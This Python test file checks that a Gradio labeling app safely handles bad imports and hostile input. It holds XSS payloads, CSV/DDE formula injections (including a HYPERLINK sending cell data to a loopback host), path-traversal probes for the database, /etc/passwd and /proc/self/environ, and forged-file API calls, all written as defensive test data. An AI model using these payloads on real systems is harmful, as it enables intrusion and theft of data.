"""Hostile input (issue 6): bad files, hostile text and hostile API calls against the real app.

Import: every bad file is refused whole with the file, the line (or row) and the reason, and the
database holds nothing new. Display: prompts, responses, judge output and notes show as inert
text on the real Label-tab path (handlers over a real database), in the real browser too, where
no request may reach a local listener. Export: invisible and direction characters come out
byte-exact; no CSV cell can run as a formula. API: `/gradio_api/file=` serves no data file,
oversize uploads and forged file paths store nothing, and with login on nobody labels, undoes
or overwrites as someone else.
"""

from __future__ import annotations

import csv
import http.client
import io
import json
import os
import threading
import time
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from urllib.parse import urlparse

import pandas as pd
import pytest
from markup import elements
from stand_ins import stand_ins

from services import Services
from settings import load_settings
from storage import queries
from storage.importer import ImportFailed
from storage.models import Pair
from webui.judge_view import JudgeDisplay, display_from_rows
from webui.label_handlers import LabelHandlers, LabelScreen
from webui.render import MAX_DISPLAY_CHARS, safe_markdown

GOOD = {"prompt": "p", "response_a": "a", "response_b": "b"}
LLMBAR = {"input": "i", "output_1": "a", "output_2": "b", "label": 1}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


# --- helpers ------------------------------------------------------------------------------------


def jsonl(*rows: Any) -> bytes:
    """JSONL bytes; a bytes row is written as it is (a broken line)."""
    return b"".join((r if isinstance(r, bytes) else json.dumps(r).encode()) + b"\n" for r in rows)


def parquet_bytes(tmp_path: Path, frame: pd.DataFrame) -> bytes:
    path = tmp_path / f"{uuid.uuid4().hex}.parquet"
    frame.to_parquet(path, index=False)
    return path.read_bytes()


def assert_inert(markup: str) -> None:
    """Nothing that runs or fetches: no such element, no handler, src or style attribute, and
    links only to http(s)/mailto."""
    for tag, attrs in elements(markup):
        assert tag not in {
            "script",
            "img",
            "svg",
            "iframe",
            "style",
            "object",
            "embed",
            "link",
            "meta",
            "base",
            "form",
            "math",
            "video",
            "audio",
            "source",
        }, (tag, attrs)
        assert not [a for a in attrs if a.startswith("on")], (tag, attrs)
        assert not {"src", "srcset", "style", "xlink:href", "formaction"} & set(attrs), attrs
        href = (attrs.get("href") or "https:").strip().lower()
        assert href.startswith(("https:", "http:", "mailto:")), href


def screen_html(screen: dict) -> list[str]:
    """The HTML strings among the Label tab's outputs (states left out)."""
    return [value for value in screen.values() if isinstance(value, str)]


def label_handlers(services: Services) -> LabelHandlers:
    return LabelHandlers(services, stand_ins(LabelScreen))


def viewer(name: str = "viewer") -> SimpleNamespace:
    """What a gr.Request gives the handlers: no login, one browser session."""
    return SimpleNamespace(username=None, session_hash=f"session-{name}")


@pytest.fixture
def services(settings, db) -> Services:
    """The app's services on a fresh real database (SQLite; PostgreSQL too when configured)."""
    return Services(settings, db.factory)


def dataset_names(services: Services) -> list[str]:
    return sorted(d.name for d in services.datasets())


def seed(services: Services, tmp_path: Path) -> tuple[list[str], int]:
    """An existing dataset, so a failed import can be seen to leave it as it was."""
    services.import_file(write(tmp_path / "keep.jsonl", jsonl(GOOD, {**GOOD, "prompt": "q"})))
    return dataset_names(services), services.stats()["pairs"]


def write(path: Path, content: bytes) -> Path:
    path.write_bytes(content)
    return path


def import_hostile(services: Services, tmp_path: Path, name: str, rows: list[dict]) -> int:
    services.import_file(write(tmp_path / f"{name}.jsonl", jsonl(*rows)), dataset=name)
    return next(d.id for d in services.datasets() if d.name == name)


def pair_ids(services: Services, dataset_id: int) -> list[int]:
    with services.sessions.begin() as s:
        return [p.id for p in queries.pending_pairs(s, None, "pairwise", dataset_id=dataset_id)]


def store_judgment(services: Services, pair_id: int, **text: str) -> int:
    row = {
        "pair_id": pair_id,
        "judge_version_id": services.judge_version_id(),
        "protocol": "pairwise",
        "prompt_version": "pairwise-v1",
        "verdict": "A",
        "status": "complete",
        "verdict_source": "text",
        **text,
    }
    with services.sessions.begin() as s:
        (judgment_id,) = queries.add_judgments(s, [row])
    return judgment_id


# --- import: every bad file refused whole, with file and line, nothing stored ------------------

CSV_HEAD = b"prompt,response_a,response_b\n"


def bad(case: str, name: str, content: bytes, where: str | None, reason: str, **kwargs: Any):
    """A bad file: its name and bytes, where the error must point ("line 3", "row 2", None for
    the whole file) and a fragment of the reason."""
    return pytest.param(name, content, where, reason, kwargs, id=case)


# fmt: off
BAD_FILES = [
    bad("jsonl-broken-line-in-the-middle", "f.jsonl",
        jsonl(GOOD, GOOD, b'{"prompt": "p", "response_a": "a",}', GOOD, GOOD),
        "line 3", "not valid JSON"),
    bad("jsonl-two-objects-on-one-line", "f.jsonl",
        jsonl(GOOD, json.dumps(GOOD).encode() * 2), "line 2", "not valid JSON (Extra data"),
    bad("jsonl-top-level-string", "f.jsonl", jsonl(GOOD, "just a sentence"),
        "line 2", "expected a JSON object, got a string"),
    bad("jsonl-top-level-null", "f.jsonl", jsonl(GOOD, GOOD, None),
        "line 3", "expected a JSON object, got null"),
    bad("jsonl-missing-prompt", "f.jsonl",
        jsonl(GOOD, {"response_a": "a", "response_b": "b"}, GOOD), "line 2", "prompt is missing"),
    bad("llmbar-missing-output_2", "f.jsonl",
        jsonl(LLMBAR, {"input": "i", "output_1": "a", "label": 2}), "line 2",
        "output_2 is missing"),
    bad("prompt-is-an-object", "f.jsonl", jsonl(GOOD, {**GOOD, "prompt": {"text": "p"}}),
        "line 2", "prompt must be text, got an object"),
    bad("response-is-true", "f.jsonl", jsonl({**GOOD, "response_b": True}),
        "line 1", "response_b must be text, got true/false"),
    bad("label-is-a-list", "f.jsonl", jsonl(GOOD, {**GOOD, "label": ["A"]}),
        "line 2", "label must be A, B or tie"),
    bad("chosen-is-a-number", "f.jsonl", jsonl({"prompt": "p", "chosen": 1, "rejected": "r"}),
        "line 1", "chosen must be text, got a number"),
    bad("response-is-NaN", "f.jsonl", jsonl(GOOD, b'{"prompt": "p", "response_a": NaN, '
        b'"response_b": "b"}'), "line 2", "response_a is empty"),
    bad("5000-digit-number", "f.jsonl",
        jsonl(GOOD, b'{"prompt": "p", "response_a": "a", "response_b": "b", "n": '
              + b"9" * 5000 + b"}"), "line 2", "not accepted: Exceeds the limit"),
    bad("json-nested-100k-deep", "f.jsonl",
        jsonl(GOOD, b'{"prompt": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
        "line 2", "nested too deeply"),
    bad("json-array-file-truncated", "f.json", b'[\n{"prompt": "p", "response_a": "a",\n',
        "line 3", "not valid JSON"),
    bad("csv-unclosed-quote", "f.csv", CSV_HEAD + b'p,a,b\n"p,a,b\np,a,b\np,a,b\n',
        "row 3", "unclosed quote"),
    bad("csv-short-row", "f.csv", CSV_HEAD + b"p,a,b\np,a\n", "row 3", "response_b is empty"),
    bad("csv-header-only", "f.csv", CSV_HEAD, None, "no rows"),
    bad("csv-unknown-columns", "f.csv", b"question,answer\nq,a\n", "row 1",
        "cannot tell the format"),
    bad("csv-raw-NUL-byte", "f.csv", CSV_HEAD + b"p,a,b\np,a\x00,b\n", "line 3", "NUL byte"),
    bad("csv-broken-prompt_turns", "f.csv",
        b"prompt_turns,response_a,response_b\n\"[{\"\"role\"\": \",a,b\n", "row 2",
        "prompt_turns is not valid JSON"),
    bad("utf16-le-with-bom-jsonl", "f.jsonl", jsonl(GOOD, GOOD).decode().encode("utf-16"),
        "line 1", "UTF-16 text (byte-order mark); save it as UTF-8"),
    bad("utf16-be-with-bom-csv", "f.csv",
        b"\xfe\xff" + (CSV_HEAD + b"p,a,b\n").decode().encode("utf-16-be"),
        "line 1", "UTF-16 text"),
    bad("cp1252-smart-quotes", "f.jsonl",
        jsonl(GOOD) + b'{"prompt": "\x93quoted\x94", "response_a": "a", "response_b": "b"}\n',
        "line 2", "not UTF-8 text (byte 0x93)"),
    bad("latin1-csv", "f.csv", CSV_HEAD + b"p,a,b\ncaf\xe9,a,b\n", "line 3",
        "not UTF-8 text (byte 0xe9)"),
    bad("lone-high-surrogate-in-prompt", "f.jsonl",
        jsonl(GOOD, b'{"prompt": "p\\ud800", "response_a": "a", "response_b": "b"}'),
        "line 2", "prompt contains a lone surrogate (U+D800)"),
    bad("lone-low-surrogate-in-chat-turn", "f.jsonl",
        jsonl({**GOOD, "prompt": [{"role": "user", "content": "hi \udfff"}]}),
        "line 1", "prompt message 1 content contains a lone surrogate (U+DFFF)"),
    bad("lone-surrogate-in-id", "f.jsonl", jsonl(GOOD, {**GOOD, "id": "x\ud83d"}),
        "line 2", "id contains a lone surrogate"),
    bad("escaped-NUL-in-id", "f.jsonl", jsonl({**GOOD, "id": "a\u0000b"}, GOOD),
        "line 1", "id contains a NUL character"),
    bad("empty-jsonl", "f.jsonl", b"", None, "no rows"),
    bad("empty-csv", "f.csv", b"", "row 1", "no header row (the file is empty)"),
    bad("empty-parquet", "f.parquet", b"", None, "not a readable Parquet file"),
    bad("csv-renamed-parquet", "f.parquet", CSV_HEAD + b"p,a,b\n", None,
        "not a readable Parquet file"),
]
# fmt: on


def _refused(services: Services, path: Path, where: str | None, reason: str, **kwargs) -> None:
    with pytest.raises(ImportFailed) as caught:
        services.import_file(path, **kwargs)
    message = str(caught.value)
    prefix = f"{path.name} {where}: " if where else f"{path.name}: "
    assert message.startswith(prefix), message
    assert reason in message, message
    assert len(message) < 600, "the message must be one readable line, not a dump"


@pytest.mark.parametrize(("name", "content", "where", "reason", "kwargs"), BAD_FILES)
def test_bad_file_is_refused_with_its_line_and_stores_nothing(
    services, tmp_path, name, content, where, reason, kwargs
) -> None:
    before = seed(services, tmp_path)
    path = write(tmp_path / name, content)

    _refused(services, path, where, reason, **kwargs)  # into a new dataset (the file's stem)
    _refused(services, path, where, reason, dataset="keep", **kwargs)  # into an existing one

    assert (dataset_names(services), services.stats()["pairs"]) == before


def _parquet_cases(tmp_path: Path) -> dict[str, tuple[bytes, str | None, str, dict]]:
    good = pd.DataFrame([GOOD, {**GOOD, "prompt": "q"}])
    whole = parquet_bytes(tmp_path, good)
    return {
        "truncated": (whole[: len(whole) - 40], None, "not a readable Parquet file", {}),
        "number-response": (
            parquet_bytes(tmp_path, pd.DataFrame([{**GOOD, "response_a": 7}])),
            "row 1",
            "response_a must be text, got a number",
            {},
        ),
        "null-response": (
            parquet_bytes(tmp_path, pd.DataFrame([GOOD, {**GOOD, "response_b": None}])),
            "row 2",
            "response_b is empty",
            {},
        ),
        "missing-column": (
            parquet_bytes(tmp_path, good.drop(columns=["response_b"])),
            None,
            "missing column response_b",
            {"format": "pairs"},
        ),
    }


@pytest.mark.parametrize(
    "case", ["truncated", "number-response", "null-response", "missing-column"]
)
def test_bad_parquet_is_refused_and_stores_nothing(services, tmp_path, case) -> None:
    content, where, reason, kwargs = _parquet_cases(tmp_path)[case]
    before = seed(services, tmp_path)
    path = write(tmp_path / "f.parquet", content)

    _refused(services, path, where, reason, **kwargs)

    assert (dataset_names(services), services.stats()["pairs"]) == before


def test_one_megabyte_response_is_stored_intact_shown_cut_and_exported_whole(
    services, tmp_path
) -> None:
    # A runaway answer is real model output people label ("both bad"): kept whole, well under
    # the import limit; only the page shows the start, and says so.
    huge = ("All work and no play makes Jack a dull boy. é👩‍💻\u202e\n" * 20_000)[:1_000_000]
    dataset_id = import_hostile(services, tmp_path, "huge", [{**GOOD, "response_a": huge}])
    (pair_id,) = pair_ids(services, dataset_id)
    assert services.pair(pair_id).response_a == huge

    handlers = label_handlers(services)
    shown = handlers.open_next("reader", dataset_id, viewer())[handlers.ui.a]  # response A
    assert f"Showing the first {MAX_DISPLAY_CHARS:,} of {len(huge):,} characters" in shown
    assert len(shown) < 10 * MAX_DISPLAY_CHARS

    services.save_label(pair_id, "reader", "both_bad")
    out = tmp_path / "huge.jsonl"
    assert services.export(out, "jsonl", dataset="huge") == 1
    (row,) = [json.loads(line) for line in out.read_text("utf-8").splitlines()]
    assert row["response_a"] == huge


def test_escaped_surrogate_pair_is_one_character_not_an_error(services, tmp_path) -> None:
    path = write(
        tmp_path / "emoji.jsonl",
        b'{"prompt": "\\ud83d\\ude00", "response_a": "a", '
        b'"response_b": "b", "note": "\\udfff half"}\n',
    )
    services.import_file(path)
    dataset_id = next(d.id for d in services.datasets() if d.name == "emoji")
    (pair_id,) = pair_ids(services, dataset_id)
    assert services.pair(pair_id).prompt == "\U0001f600"
    with services.sessions.begin() as s:
        meta = s.get(Pair, pair_id).meta or {}
    # An extra column holding half a character is left out rather than stored un-encodable.
    assert "note" not in meta.get("extra", {})


# --- display: hostile text is inert on the real Label-tab path ---------------------------------

HOSTILE_TEXT = [
    ("script", "<script>window.__pwned=1</script>"),
    ("img-onerror", '<img src=x onerror="window.__pwned=1">'),
    ("svg-onload", "<svg onload=alert(1)><circle r=9></circle></svg>"),
    ("iframe", '<iframe src="http://127.0.0.1:9/frame"></iframe>'),
    ("javascript-link", "[click me](javascript:alert(document.cookie))"),
    ("raw-javascript-anchor", '<a href="javascript:alert(1)">click</a>'),
    ("entity-encoded-javascript-link", "[x](&#106;avascript:alert(1))"),
    ("data-url-link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("data-url-image", "![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/">'),
    ("mathml-xlink", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
]


@pytest.mark.parametrize("text", [t for _, t in HOSTILE_TEXT], ids=[n for n, _ in HOSTILE_TEXT])
def test_hostile_text_in_pair_judge_output_and_notes_is_inert(services, tmp_path, text) -> None:
    rows = [{"prompt": f"prompt-text {text}", "response_a": f"answer-a {text}",
             "response_b": f"answer-b {text}", "category": text[:60]}]  # fmt: skip
    dataset_id = import_hostile(services, tmp_path, "hostile", rows)
    (pair_id,) = pair_ids(services, dataset_id)
    store_judgment(
        services, pair_id, principles=f"principle-text {text}", critique=f"critique-text {text}",
        error=f"error-text {text}",
    )  # fmt: skip
    services.save_label(pair_id, "someone", "B", note=f"note-text {text}", corrected_critique=text)
    handlers = label_handlers(services)

    screen = handlers.open_next("viewer", dataset_id, viewer())
    current = screen[handlers.ui.current]
    shown = [*screen_html(screen), handlers.pair_history(current)]

    assert current["pair_id"] == pair_id
    for markup in shown:
        assert_inert(markup)
    page = "".join(shown)
    markers = ("prompt-text", "answer-a", "answer-b", "principle-", "critique-", "error-", "note-")
    for marker in markers:  # every text is on screen, as text
        assert marker in page, marker


def test_stored_judgment_with_an_unknown_verdict_shows_it_as_text() -> None:
    row = {"id": 1, "sample_index": 0, "swapped": False, "status": "complete", "critique": "x"}
    view = display_from_rows([{**row, "verdict": "<b onmouseover=alert(1)>A</b>"}])
    assert_inert(view.badge())
    assert "&lt;b onmouseover" in view.badge()


DEEP = {
    "5000-quote-markers": ">" * 5000 + " deep",
    "5000-list-markers": "- " * 5000 + "deep",
    "5000-indented-list-levels": "\n".join("  " * i + f"- item{i}" for i in range(5000)) + "deep",
    "5000-nested-emphasis": "*" * 5000 + "deep" + "*" * 5000,
    "5000-nested-brackets": "[" * 5000 + "deep" + "](x)" * 5000,
    "5000-nested-html-divs": "<div>" * 5000 + "deep" + "</div>" * 5000,
    "quote-list-mix": "> 1. - " * 2000 + "deep",
}


@pytest.mark.parametrize("text", DEEP.values(), ids=DEEP.keys())
def test_deeply_nested_markdown_renders_as_safe_text(text: str) -> None:
    shown = safe_markdown(text)
    assert shown.startswith('<div class="grm-md"')
    assert "deep" in shown or "Showing the first" in shown
    assert_inert(shown)
    for panel in JudgeDisplay(principles=text, critique=text).panels():  # judge output too
        assert_inert(panel)


def test_list_nested_past_the_parser_limit_loses_no_line() -> None:
    # markdown-it stops at its nesting limit and drops everything after it; the page must show
    # every line of the response (as plain text if need be), not silently a part of it.
    text = "\n".join("  " * i + f"- item{i}" for i in range(40))
    shown = safe_markdown(text)
    missing = [i for i in range(40) if f"item{i}\n" not in shown and f"item{i}<" not in shown]
    assert missing == []


# --- direction and invisible characters: shown as codes, exported byte-exact ------------------

TRICKS = {
    "prompt": "Rename \u202egpj.exe\u202c please",
    "response_a": "pay\u200b pal\u200d and \u2066isolate\u2069 \ufeffbom",
    "response_b": "\u200fRLM \u202bembedding\u202c \u00adsoft hyphen",
    "category": "rtl\u202e",
}


def test_direction_and_zero_width_characters_are_visible_and_exported_byte_exact(
    services, tmp_path
) -> None:
    dataset_id = import_hostile(services, tmp_path, "tricks", [TRICKS])
    (pair_id,) = pair_ids(services, dataset_id)
    note = "note\u202e with override"
    services.save_label(pair_id, "ana", "A", note=note)

    handlers = label_handlers(services)
    screen, ui = handlers.open_next("viewer", dataset_id, viewer()), handlers.ui
    shown = (TRICKS["category"], TRICKS["prompt"], TRICKS["response_a"], TRICKS["response_b"])
    for markup, raw in zip(
        [screen[c] for c in (ui.meta, ui.prompt, ui.a, ui.b)], shown, strict=True
    ):
        for char in {c for c in raw if not c.isprintable()}:
            assert char not in markup, f"U+{ord(char):04X} reached the page unescaped"
            assert f"[U+{ord(char):04X}]" in markup

    for fmt in ("jsonl", "csv"):
        out = tmp_path / f"tricks.{fmt}"
        services.export(out, fmt, dataset="tricks")
        data = out.read_bytes()
        for value in (*TRICKS.values(), note):
            assert value.encode("utf-8") in data, (fmt, value)
        if fmt == "jsonl":
            row = json.loads(data.decode("utf-8"))
        else:
            row = next(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
        assert {k: row[k] for k in TRICKS} == TRICKS
        assert row["note"] == note


# --- CSV formula injection on export ----------------------------------------------------------

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://127.0.0.1:9/?d="&A1,"Click for details")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}


@pytest.mark.parametrize("formula", FORMULAS.values(), ids=FORMULAS.keys())
def test_formula_in_any_exported_text_is_escaped_in_csv_only(services, tmp_path, formula) -> None:
    # The dataset name, the annotator's name, notes, critiques, ids: every text a person or a
    # file supplies ends up in a cell.
    row = {"id": formula, "prompt": formula, "response_a": formula, "response_b": f"{formula} ",
           "reference": formula, "category": formula[:60]}  # fmt: skip
    dataset_id = import_hostile(services, tmp_path, "=SUM(1)", [row])
    (pair_id,) = pair_ids(services, dataset_id)
    judgment = store_judgment(services, pair_id, principles=formula, critique=formula)
    services.save_label(
        pair_id, "@mallory", "A", judgment_id=judgment, note=formula, corrected_critique=formula
    )
    out = tmp_path / "labels.csv"
    services.export(out, "csv")

    with out.open(newline="", encoding="utf-8") as handle:
        (cells,) = list(csv.DictReader(handle))
    dangerous = {k: v for k, v in cells.items() if v.startswith(FORMULA_STARTS)}
    assert dangerous == {}
    assert cells["note"] == "'" + formula and cells["annotator"] == "'@mallory"
    assert cells["dataset"] == "'=SUM(1)"

    services.export(tmp_path / "labels.jsonl", "jsonl")  # JSON is data: kept exactly
    exact = json.loads((tmp_path / "labels.jsonl").read_text("utf-8"))
    assert (exact["note"], exact["prompt"], exact["annotator"]) == (formula, formula, "@mallory")


# --- the launched app: file serving, uploads, forged paths ------------------------------------


def open_services(home: Path, **settings_values: Any) -> Services:
    """Services over a fresh SQLite file in `home`, on a free loopback port."""
    from conftest import free_port

    settings = load_settings(home=home, database_url=None, port=free_port(), **settings_values)
    return Services.open(settings)


def serve_app(services: Services) -> tuple[Any, str]:
    """The whole app over `services`, launched with the product's own options; (demo, url)."""
    from app import build_app, serve

    demo = build_app(services)
    _, url = serve(demo, services.settings, prevent_thread_lock=True, quiet=True)
    return demo, url


@pytest.fixture(scope="module")
def plain_app(tmp_path_factory) -> Iterator[SimpleNamespace]:
    """The real app (no login, no judge loaded, a 1 MB upload limit) over a real SQLite file,
    with a hostile pair and a fake adapter file under the runs directory."""
    home = tmp_path_factory.mktemp("hostile-home")
    services = open_services(home / "grm", max_import_mb=1)
    rows = [{key: f"{key} <img src=x onerror=alert(1)> ![i](http://127.0.0.1:9/i.png)"
             for key in GOOD}]  # fmt: skip
    import_hostile(services, home, "wire", rows)
    adapter = services.runs_dir() / "1" / "adapter" / "adapter_model.safetensors"
    adapter.parent.mkdir(parents=True)
    adapter.write_bytes(b"ADAPTER-SECRET-BYTES")
    demo, url = serve_app(services)
    yield SimpleNamespace(url=url, services=services, settings=services.settings, adapter=adapter)
    demo.close()


def http_get(url: str, raw_path: str) -> tuple[int, bytes]:
    """GET with the path sent byte for byte (no client-side '..' clean-up)."""
    parsed = urlparse(url)
    connection = http.client.HTTPConnection(parsed.hostname, parsed.port, timeout=30)
    try:
        connection.request("GET", raw_path)
        response = connection.getresponse()
        return response.status, response.read()
    finally:
        connection.close()


def _probes(app: SimpleNamespace) -> dict[str, str]:
    home = app.settings.home.resolve()
    db = home / "grm.sqlite3"
    climb = "/.." * 12
    encoded = str(db).replace("/", "%2f")
    return {
        "db-absolute": f"/gradio_api/file={db}",
        "db-dotdot-from-upload-dir": f"/gradio_api/file=/tmp/gradio{climb}{db}",
        "db-url-encoded-dotdot": f"/gradio_api/file=%2e%2e/%2e%2e{'/%2e%2e' * 12}{db}",
        "db-encoded-slashes": f"/gradio_api/file=..%2f..%2f..%2f..{encoded}",
        "db-other-case": f"/gradio_api/file={str(db).upper()}",
        "db-file-scheme": f"/gradio_api/file=file://{db}",
        "db-old-route": f"/file={db}",
        "data-dir": f"/gradio_api/file={home}",
        "data-dir-trailing-dot": f"/gradio_api/file={home}/.",
        "adapter": f"/gradio_api/file={app.adapter}",
        "adapter-dotdot": f"/gradio_api/file={app.adapter.parent}/../adapter/{app.adapter.name}",
        "relative-from-cwd": f"/gradio_api/file={os.path.relpath(db)}",
        "process-environment": "/gradio_api/file=/proc/self/environ",
    }


PROBES = [
    "db-absolute",
    "db-dotdot-from-upload-dir",
    "db-url-encoded-dotdot",
    "db-encoded-slashes",
    "db-other-case",
    "db-file-scheme",
    "db-old-route",
    "data-dir",
    "data-dir-trailing-dot",
    "adapter",
    "adapter-dotdot",
    "relative-from-cwd",
    "process-environment",
]


@pytest.mark.slow
@pytest.mark.parametrize("probe", PROBES)
def test_file_route_never_serves_the_database_data_dir_or_adapters(plain_app, probe) -> None:
    status, body = http_get(plain_app.url, _probes(plain_app)[probe])
    assert status in (403, 404), (status, body[:200])
    assert b"SQLite format 3" not in body and b"ADAPTER-SECRET" not in body
    assert set(json.loads(body)) == {"detail"}, body[:200]  # an error, never the file


@pytest.fixture
def listener() -> Iterator[SimpleNamespace]:
    """A local HTTP server standing in for 'the outside': every request it gets is recorded."""
    hits: list[str] = []

    class Record(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (http.server's name)
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Record)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield SimpleNamespace(base=f"http://127.0.0.1:{server.server_address[1]}", hits=hits)
    server.shutdown()
    server.server_close()


@pytest.mark.slow
def test_file_route_fetches_no_url_for_a_caller(plain_app, listener) -> None:
    status, _ = http_get(plain_app.url, f"/gradio_api/file={listener.base}/via-server.png")
    assert status in (403, 404)
    assert listener.hits == []


@pytest.mark.slow
def test_oversize_upload_is_refused_and_nothing_is_stored(plain_app, tmp_path) -> None:
    import httpx
    from gradio_client import Client, handle_file

    before = plain_app.services.stats()
    line = json.dumps({**GOOD, "response_a": "x" * 1000}) + "\n"
    big = write(tmp_path / "big.jsonl", (line * 1600).encode())  # 1.6 MB, over the 1 MB limit

    with big.open("rb") as handle:
        answer = httpx.post(f"{plain_app.url}gradio_api/upload", files={"files": handle})
    assert answer.status_code == 413, answer.text
    assert "maximum allowed size" in answer.text
    client = Client(plain_app.url, verbose=False, analytics_enabled=False, download_files=False)
    # The client checks the app's limit before it uploads (the server's own 413 is above).
    with pytest.raises(ValueError, match="exceeds the maximum file size of 1048576 bytes"):
        client.predict(handle_file(str(big)), "big", "auto", api_name="/import_file")
    assert plain_app.services.stats() == before
    assert "big" not in dataset_names(plain_app.services)


def _call(url: str, api_name: str, data: list) -> str:
    """One event through Gradio's REST API; the event stream's text."""
    import httpx

    started = httpx.post(f"{url}gradio_api/call/{api_name}", json={"data": data}, timeout=30)
    started.raise_for_status()
    event_id = started.json()["event_id"]
    return httpx.get(f"{url}gradio_api/call/{api_name}/{event_id}", timeout=60).text


@pytest.mark.slow
@pytest.mark.parametrize("target", ["database", "adapter", "system-file"])
def test_import_of_a_forged_server_path_is_refused_and_stores_nothing(plain_app, target) -> None:
    path = {
        "database": plain_app.settings.home.resolve() / "grm.sqlite3",
        "adapter": plain_app.adapter,
        "system-file": Path("/etc/passwd"),
    }[target]
    before = plain_app.services.stats()
    forged = {"path": str(path), "meta": {"_type": "gradio.FileData"}, "orig_name": "x.jsonl"}

    events = _call(plain_app.url, "import_file", [forged, "stolen", "auto"])

    assert "event: error" in events and "Imported" not in events
    assert "root:" not in events and "SQLite format" not in events
    assert plain_app.services.stats() == before
    assert "stolen" not in dataset_names(plain_app.services)


@pytest.mark.slow
def test_hostile_pair_arrives_inert_over_the_api(plain_app) -> None:
    from gradio_client import Client

    client = Client(plain_app.url, verbose=False, analytics_enabled=False, download_files=False)
    client.predict("wire-reader", api_name="/set_annotator")
    screen = client.predict(0, api_name="/next_pair")
    assert "data-pair-id" in screen[0]
    for markup in screen[:4]:
        assert_inert(markup)
    assert "&lt;img src=x onerror=alert(1)&gt;" in screen[2]
    assert "[image: i — http://127.0.0.1:9/i.png]" in screen[3]


# --- with login on: nobody acts as someone else ------------------------------------------------


@pytest.fixture
def auth_app(tmp_path) -> Iterator[SimpleNamespace]:
    """The app with login on for ana and ben (demo pairs, no judge loaded)."""
    services = open_services(tmp_path / "auth", auth="ana:pw-a,ben:pw-b")
    services.load_demo_if_empty()
    demo, url = serve_app(services)
    yield SimpleNamespace(url=url, services=services)
    demo.close()


def login(url: str, user: str, password: str):
    from gradio_client import Client

    return Client(url, auth=(user, password), verbose=False, analytics_enabled=False)


def labels(services: Services) -> set[tuple[int, str, str]]:
    with services.sessions.begin() as s:
        return {(r["pair_id"], r["annotator"], r["label"]) for r in queries.labeled_records(s)}


def shown_pair(screen: tuple) -> int:
    return int(screen[0].split('data-pair-id="')[1].split('"')[0])


@pytest.mark.slow
def test_with_login_another_user_cannot_undo_or_overwrite_a_label(auth_app) -> None:
    ana = login(auth_app.url, "ana", "pw-a")
    first = shown_pair(ana.predict(0, api_name="/next_pair"))
    ana.predict(0, "", "", api_name="/label_A")

    ben = login(auth_app.url, "ben", "pw-b")
    ben.predict("ana", api_name="/set_annotator")  # claims to be ana: ignored
    undone = ben.predict(0, api_name="/undo")
    assert "Nothing to undo" in undone[-1]
    assert shown_pair(ben.predict(0, api_name="/next_pair")) == first  # ben's own queue
    ben.predict(0, "ben's view", "", api_name="/label_B")

    assert labels(auth_app.services) == {(first, "ana", "A"), (first, "ben", "B")}
    ben.predict(0, api_name="/undo")  # takes back ben's label only
    assert labels(auth_app.services) == {(first, "ana", "A")}


@pytest.mark.slow
def test_with_login_a_wrong_password_or_no_session_stores_nothing(auth_app) -> None:
    import httpx

    with pytest.raises(ValueError, match="Could not login to"):
        login(auth_app.url, "ana", "wrong")
    answer = httpx.post(f"{auth_app.url}gradio_api/call/label_A", json={"data": [0, "", ""]})
    assert answer.status_code in (401, 403)
    assert labels(auth_app.services) == set()


# --- the real browser: markdown images and raw <img> fetch nothing -----------------------------


@pytest.mark.browser
@pytest.mark.slow
def test_browser_fetches_nothing_from_outside_and_runs_nothing(
    browser, plain_app, listener, tmp_path
) -> None:
    from test_browser import choose_dataset, open_desk

    out = listener.base
    leak = f'![x]({out}/leak.png) <img src="{out}/img" onerror="window.__pwned=1">'
    row = {
        "prompt": f"Look: {leak}",
        "response_a": f"A {leak} [ref][r]\n\n[r]: {out}/ref.png",
        "response_b": f"plain B ![b][i]\n\n[i]: {out}/ri.png\n\n<iframe src='{out}/f'></iframe>",
        "category": f'<img src="{out}/category">',
    }
    dataset = f"leak-{uuid.uuid4().hex[:6]}"
    dataset_id = import_hostile(plain_app.services, tmp_path, dataset, [row])
    (pair_id,) = pair_ids(plain_app.services, dataset_id)
    store_judgment(
        plain_app.services,
        pair_id,
        principles=f'judge-marker <img src="{out}/judge" onerror="window.__pwned=2">',
        critique=f"![c]({out}/critique.png) <svg onload='window.__pwned=3'></svg>",
    )
    plain_app.services.save_label(pair_id, "someone", "A", note=f'<img src="{out}/note">')

    page = open_desk(browser, plain_app.url, "leak-check")
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    choose_dataset(page, dataset)
    page.wait_for_function(
        "() => (document.querySelector('#grm-response-b') || {}).innerText?.includes('plain B')"
    )
    page.wait_for_function(
        "() => document.querySelector('#grm-principles')?.innerText.includes('judge-marker')"
    )
    page.get_by_text("History of this pair").click()
    page.wait_for_function(
        "() => (document.querySelector('#grm-history') || {}).innerText?.includes('someone')"
    )
    time.sleep(1.0)  # give any image load or injected handler the chance to run

    assert listener.hits == [], f"the page fetched from the listener: {listener.hits}"
    assert page.evaluate("() => window.__pwned") is None
    areas = ", ".join(
        f"#grm-{part} img, #grm-{part} iframe, #grm-{part} svg"
        for part in ("meta", "prompt", "response-a", "response-b", "principles", "critique",
                     "history")
    )  # fmt: skip
    assert page.locator(areas).count() == 0
    assert f"{out}/leak.png" in page.inner_text("#grm-prompt")  # shown as text instead
    app_host = urlparse(plain_app.url).netloc
    strangers = [u for u in requests if urlparse(u).scheme in ("http", "https")]
    assert all(urlparse(u).netloc == app_host for u in strangers), strangers

